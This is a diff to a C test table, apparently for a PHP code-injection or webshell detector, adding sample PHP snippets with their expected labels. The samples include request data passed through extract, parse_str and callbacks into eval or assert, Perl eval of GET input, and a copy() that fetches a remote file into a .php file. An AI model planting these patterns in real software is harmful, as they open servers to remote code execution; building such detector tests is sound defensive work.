@@ -144,6 +144,15 @@ static const struct row bindings[] = {
     {"foreach ($_POST as $k => $v) $k();", "call  request bound"},
     {"function f($x) { eval($x); } f($m);", "eval eval undefined"},
     {"function f(&$x) { $x = 'marker'; } f($m); eval($m);", "!eval eval undefined"},
+    {"extract($_REQUEST); assert(stripslashes($m));", "assert assert request undefined"},
+    {"function f() { extract($_POST); eval($m); } f();", "eval eval request"},
+    {"function f($x) { extract($x); eval($m); } f(array('n' => 1));", "!eval eval request"},
+    {"parse_str($_SERVER['QUERY_STRING']); eval($m);", "eval eval server undefined"},
+    {"copy('http://marker.example/m.txt', 'm.php');", "upload copy remote"},
+    {"$p = new perl; $p->eval('print ' . $_GET['m']);", "command perl::eval request"},
+    {"$a = new ArrayObject(array('x' => 1, $_GET['m'] => 2)); $a->uksort('assert');",
+     "assert assert request"},
+    {"array_diff_ukey(array($_GET['m'] => 1), array(1), 'assert');", "assert assert request"},
 };
 
 static const struct row flows[] = {
@@ -152,7 +161,7 @@ static const struct row flows[] = {
     {"$a = array('k' => $_GET['m'], 'n' => 1); eval($a['k']);", "eval eval request"},
     {"$a = &$b; $b = $_GET['m']; eval($a);", "eval eval request"},
     {"if (!$_GET['m']) $_GET['m'] = 'marker()'; eval($_GET['m']);", "eval eval request"},
-    {"foreach ($_POST as $k => $v) $$k = $v; eval($m);", "eval eval undefined"},
+    {"foreach ($_POST as $k => $v) $$k = $v; eval($m);", "eval eval request undefined"},
     {"list($a, $b) = array('x', $_GET['m']); eval($b);", "eval eval request"},
     {"[, $b] = [1, $_GET['m']]; eval($b);", "eval eval request"},
     {"extract(array('m' => $_GET['m'])); eval($m);", "eval eval request"},
